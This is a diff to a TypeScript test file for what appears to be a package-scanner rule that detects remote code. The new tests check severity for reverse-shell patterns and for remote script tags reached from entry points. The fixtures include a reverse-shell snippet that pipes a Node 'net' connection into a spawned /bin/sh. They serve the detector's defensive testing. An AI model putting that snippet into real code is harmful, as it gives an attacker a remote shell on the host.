@@ -1,6 +1,6 @@
 import assert from 'node:assert/strict';
 import { test } from 'node:test';
-import { findingsOf } from '#test/support/scan-package.js';
+import { findingsOf, said } from '#test/support/scan-package.js';
 import { rule } from './remote-code.rule.js';
 
 const worst = (text: string, path = 'a.js') => findingsOf(rule, { [path]: text })[0]?.severity ?? 'nothing';
@@ -120,4 +120,26 @@ test('good: a page of the tests, whatever name a test makes', () => {
   const files = { 'index.js': 'run()', 'test/a.html': '<script src="//cdn.example.org/a.js"></script>', 'test/a.js': 'read(name + ".html")' };
   const severities = (more: Record<string, string>) => findingsOf(rule, { ...files, ...more }, { entry_points: ['index.js'] }).map(({ severity }) => severity);
   assert.deepEqual([severities({}), severities({ 'index.js': 'require("./test/a.js")' })], [['medium'], ['high']]);
+});
+
+const SHELL = 'const sh = require("child_process").spawn("/bin/sh");';
+const CONNECTION = 'const s = require("net").connect(1, h);';
+
+test('a shell in a large script is one for a connection that is close to it', () => {
+  const lines = '// what others do\n'.repeat(4_000);
+  assert.equal(worst(`${CONNECTION}\n${SHELL} s.pipe(sh.stdin);\n${lines}`), 'high');
+  assert.equal(worst(`${lines}${lines}${CONNECTION}${' '.repeat(4_000)}${SHELL} s.pipe(sh.stdin);`), 'high');
+  assert.equal(worst(`${CONNECTION}\n${lines}${SHELL}`), 'nothing');
+  assert.equal(worst(`${CONNECTION}\n${'// what others do\n'.repeat(1_000)}${SHELL}`), 'high', 'a small one');
+});
+
+test('a page that only pages name which nothing opens is documentation', () => {
+  const remote = '<script src="https://example.org/a.js"></script>';
+  const package_ = (more: Record<string, string>): Record<string, string> => ({ 'index.js': 'open("panel.html")', 'docs/index.html': '<a href="guide.html">', 'docs/guide.html': remote, 'panel.html': '<p>', ...more });
+  const of = (files: Record<string, string>): string[] => said(rule, files, { entry_points: ['index.js'] });
+  assert.deepEqual(of(package_({})), ['medium docs/guide.html:1']);
+  assert.deepEqual(of(package_({ 'panel.html': '<a href="docs/index.html">' })), ['high docs/guide.html:1'], 'one after the other');
+  assert.deepEqual(of(package_({ 'panel.html': '<iframe src="docs/guide.html">' })), ['high docs/guide.html:1']);
+  assert.deepEqual(of(package_({ 'index.js': 'open("docs/index.html")' })), ['high docs/guide.html:1']);
+  assert.deepEqual(of(package_({ 'index.js': 'open(name + ".html")' })), ['high docs/guide.html:1']);
 });
